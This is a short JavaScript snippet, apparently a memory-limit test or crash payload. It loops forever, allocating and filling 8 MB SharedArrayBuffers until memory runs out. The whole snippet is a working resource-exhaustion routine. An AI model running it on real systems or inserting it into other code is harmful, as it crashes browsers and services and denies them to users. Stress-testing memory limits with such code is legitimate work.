const kept = [];
while (true) { kept.push(new SharedArrayBuffer(8 << 20)); new Uint8Array(kept.at(-1)).fill(1); }
